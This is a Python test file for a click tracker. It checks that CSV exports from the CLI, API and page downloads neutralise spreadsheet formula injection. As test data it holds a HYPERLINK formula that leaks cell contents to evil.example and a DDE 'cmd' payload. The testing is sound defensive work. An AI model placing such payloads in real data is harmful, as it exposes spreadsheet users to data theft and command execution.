"""CSV formula injection (OWASP "CSV Injection"): every CSV the service writes neutralises text a spreadsheet
would evaluate (tracker/csvout.py), and leaves numbers alone.

The prefixes go in where people can put text: the User-Agent of a click (``tracker export clicks``) and
the UTM source of a landing visit (every report CSV by source: API, the pages' downloads, the CLI, the
paths export).
"""
from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import sqlalchemy as sa

from tracker.csvout import FORMULA_PREFIXES, safe_cell
from tracker.db import get_db
from tracker.redirects.capture import write_batch

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LANDING = "https://www.example.com"


def dangerous(cell: str) -> bool:
    """A cell a spreadsheet would evaluate: a formula prefix, and not a plain number."""
    if not cell.startswith(FORMULA_PREFIXES):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row]


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_a_formula_looking_cell_gets_a_leading_quote(prefix: str) -> None:
    assert safe_cell(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("value", [-5, 3.25, 0, "", "plain", "a=b", "mail@example.com", None])
def test_numbers_and_plain_text_stay_as_they_are(value: Any) -> None:
    assert safe_cell(value) == ("" if value is None else value)


def test_click_export_neutralises_a_user_agent_formula(app: Any, runner: Any, make_link: Any,
                                                       tmp_path: Any) -> None:
    link = make_link()
    with get_db(app).Session() as session:
        link_id = session.execute(sa.text("SELECT id FROM links WHERE code = :c"), {"c": link["code"]}).scalar_one()
    agents = [FORMULA, *(p + "cmd|' /C calc'!A0" for p in FORMULA_PREFIXES)]
    now = datetime.now(UTC)
    records = [{"tid": f"csvinj{i:026d}", "ts": (now - timedelta(minutes=i)).isoformat(), "via": "link",
                "link": link_id, "ua": ua, "ref": "=evil.example"} for i, ua in enumerate(agents)]
    with get_db(app).Session() as session:
        assert write_batch(session, records, app.config["SETTINGS"].tz) == len(records)
    day = now.astimezone(app.config["SETTINGS"].tz).date()
    out = tmp_path / "clicks.csv"
    result = runner.invoke(args=["export", "clicks", "--from", (day - timedelta(days=1)).isoformat(),
                                 "--to", day.isoformat(), "-o", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as fh:  # newline="": a CR inside a cell stays a CR
        text = fh.read()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert sorted(r["user_agent"] for r in rows) == sorted("'" + ua for ua in agents)
    assert {r["referrer_host"] for r in rows} == {"'=evil.example"}
    assert not any(dangerous(c) for c in cells(text))


@pytest.fixture
def formula_sources(make_app: Any) -> Any:
    """Landing visits whose utm_source starts with each formula prefix, each followed by a lead."""
    app = make_app(landing_origins=(LANDING,))
    client = app.test_client()
    for n, prefix in enumerate(p for p in FORMULA_PREFIXES if p.isprintable()):
        visitor = f"{n:032x}"
        for body in ({"type": "visit", "site_visitor_id": visitor, "url": f"{LANDING}/pricing",
                      "utm_source": f"{prefix}SUM(1,2)", "utm_medium": f"{prefix}cpc"},
                     {"type": "event", "site_visitor_id": visitor, "event": "lead"}):
            resp = client.post("/collect", json=body, headers={"Origin": LANDING, "User-Agent": "Mozilla/5.0"})
            assert resp.status_code in (200, 201, 202, 204), resp.get_data(as_text=True)
    return app


def test_every_report_csv_neutralises_formula_sources(formula_sources: Any, runner: Any, auth: dict[str, str],
                                                      signed_in: Any) -> None:
    app = formula_sources
    client = app.test_client()
    key = auth
    today = datetime.now(app.config["SETTINGS"].tz).date().isoformat()
    query = f"from={today}&to={today}&by=source,medium&format=csv"
    bodies = {
        "api attribution": client.get(f"/api/v1/reports/attribution?{query}", headers=key),
        "api paths": client.get(f"/api/v1/reports/paths?{query}", headers=key),
        "page attribution download": signed_in.get(f"/reports/attribution/credits.csv?from={today}&to={today}"
                                                   "&by=source,medium"),
    }
    texts = {}
    for name, resp in bodies.items():
        assert resp.status_code == 200, (name, resp.get_data(as_text=True)[:300])
        texts[name] = resp.get_data(as_text=True)
    cli = runner.invoke(args=["report", "attribution", "--from", today, "--to", today, "--by", "source",
                              "--format", "csv"])
    assert cli.exit_code == 0, cli.output
    texts["cli attribution"] = cli.output
    for name, text in texts.items():
        found = cells(text, ";" if name == "api paths" else ",")
        assert any(c.startswith("'=SUM(1,2)") or "'=SUM(1,2)" in c for c in found), (name, text[:400])
        assert not [c for c in found if dangerous(c)], name
